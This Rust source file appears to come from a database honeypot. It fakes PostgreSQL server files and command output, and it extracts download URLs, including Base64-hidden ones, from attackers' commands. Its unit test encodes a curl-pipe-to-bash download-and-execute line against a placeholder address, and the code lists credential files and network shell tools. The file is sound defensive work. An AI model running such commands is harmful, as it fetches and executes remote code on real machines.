//! Files of the server's machine that the database can read, and programs that it can run: neither is real.

use base64::{Engine as _, prelude::BASE64_STANDARD};

use super::build::Build;
use crate::{
    decoys::{sql::Fault, wire::cut},
    persona::{Os, Persona},
    shell::Facts,
};

/// What is in a file; none when there is none that the server may read.
pub(super) fn content(persona: &Persona, build: &Build, path: &str) -> Option<String> {
    if matches!(persona.os, Os::WindowsServer2019 | Os::Windows10) {
        return None;
    }
    let home = build.data.rsplit_once('/').map_or("/var/lib/postgresql", |(home, _)| home);
    let home = home
        .rsplit_once('/')
        .filter(|(_, last)| last.chars().all(|c| c.is_ascii_digit()))
        .map_or(home, |(home, _)| home);
    Some(match path {
        "/etc/passwd" => format!(
            "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nbin:x:2:2:bin:/bin:/usr/sbin/nologin\n\
             sys:x:3:3:sys:/dev:/usr/sbin/nologin\nsync:x:4:65534:sync:/bin:/bin/sync\nman:x:6:12:man:/var/cache/man:/usr/sbin/nologin\n\
             mail:x:8:8:mail:/var/mail:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n\
             nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\nsshd:x:105:65534::/run/sshd:/usr/sbin/nologin\n\
             postgres:x:{0}:{1}:PostgreSQL administrator,,,:{home}:/bin/bash\n",
            user(persona),
            user(persona) + 8,
        ),
        "/etc/hostname" => format!("{}\n", persona.hostname),
        "PG_VERSION" => format!("{}\n", build.version.split('.').next().unwrap_or("15")),
        "/etc/hosts" => format!("127.0.0.1\tlocalhost\n127.0.1.1\t{}\n", persona.hostname),
        path if path.starts_with(build.data) && path.ends_with("PG_VERSION") => {
            format!("{}\n", build.version.split('.').next().unwrap_or("15"))
        }
        _ => return None,
    })
}

fn user(persona: &Persona) -> u64 {
    107 + persona.number("postgres uid", 8)
}

/// A file that there is not.
pub(super) fn missing(path: &str, what: &str, then: &str) -> Fault {
    let denied = ["/etc/shadow", "/root", "/etc/gshadow", "/etc/sudoers"].iter().any(|secret| path.starts_with(secret));
    if denied {
        return Fault::Own(0, "42501", format!("{what} \"{path}\"{then}: Permission denied"));
    }
    Fault::Own(0, "58P01", format!("{what} \"{path}\"{then}: No such file or directory"))
}

/// What a program prints, or how it fails: a program that is not there ends with 127.
pub(super) fn run(persona: &Persona, build: &Build, command: &str) -> Result<String, &'static str> {
    let words: Vec<&str> = command.split_whitespace().collect();
    let chained = command.contains(['|', ';', '&', '`', '$', '>']);
    let uid = user(persona);
    Ok(match words.as_slice() {
        ["id"] => {
            format!("uid={uid}(postgres) gid={0}(postgres) groups={0}(postgres),{1}(ssl-cert)\n", uid + 8, uid - 1)
        }
        ["whoami"] => "postgres\n".to_owned(),
        ["pwd"] => format!("{}\n", build.data),
        ["hostname"] => format!("{}\n", persona.hostname),
        ["uname", rest @ ..] => {
            let facts = Facts::of(persona.os);
            match rest {
                [] => format!("{}\n", facts.kernel_name),
                ["-r"] => format!("{}\n", facts.kernel),
                _ => format!(
                    "{} {} {} {} {} {}\n",
                    facts.kernel_name,
                    persona.hostname,
                    facts.kernel,
                    facts.kernel_version,
                    facts.machine,
                    facts.operating_system
                ),
            }
        }
        ["cat", path] if !chained => content(persona, build, path).ok_or("child process exited with exit code 1")?,
        ["echo", rest @ ..] if !chained => format!("{}\n", rest.join(" ").trim_matches(['"', '\''])),
        ["false"] => return Err("child process exited with exit code 1"),
        // What is chained, fetched or started says nothing.
        _ if chained => String::new(),
        [first, ..]
            if [
                "curl", "wget", "sh", "bash", "chmod", "mkdir", "rm", "touch", "python3", "perl", "nohup", "sleep",
                "true", "kill", "pkill", "crontab", "ls", "cd", "export", "ps",
            ]
            .contains(first)
                || first.starts_with('/') =>
        {
            String::new()
        }
        _ => return Err("command not found"),
    })
}

/// Addresses that a command would fetch from; also those that it hides in Base64.
pub(super) fn addresses(command: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut look = |text: &str| {
        for (at, _) in text.match_indices("://").take(8) {
            let Some((before, after)) = text.split_at_checked(at) else { continue };
            let scheme = ["http", "https", "ftp", "tftp"]
                .into_iter()
                .filter(|scheme| before.ends_with(scheme))
                .max_by_key(|s| s.len());
            let Some(scheme) = scheme else { continue };
            let end = after.find(|c: char| c.is_whitespace() || "'\"|;<>`)&".contains(c)).unwrap_or(after.len());
            let address = format!("{scheme}{}", after.get(..end).unwrap_or(""));
            if !found.contains(&address) {
                found.push(cut(&address, 2_048).to_owned());
            }
        }
    };
    look(command);
    let hidden = command
        .split(|c: char| !(c.is_ascii_alphanumeric() || "+/=".contains(c)))
        .filter(|word| word.len() >= 24)
        .max_by_key(|word| word.len());
    if let Some(Ok(bytes)) = hidden.map(|word| BASE64_STANDARD.decode(word)) {
        look(&String::from_utf8_lossy(&bytes));
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn addresses_are_found_where_they_hide() {
        let hidden = BASE64_STANDARD.encode("curl -s http://192.0.2.7/x.sh | bash");
        assert_eq!(addresses(&format!("echo {hidden}|base64 -d|bash")), ["http://192.0.2.7/x.sh"]);
        assert_eq!(addresses("wget https://a.example/b;ls"), ["https://a.example/b"]);
        assert!(addresses("://").is_empty());
    }
}
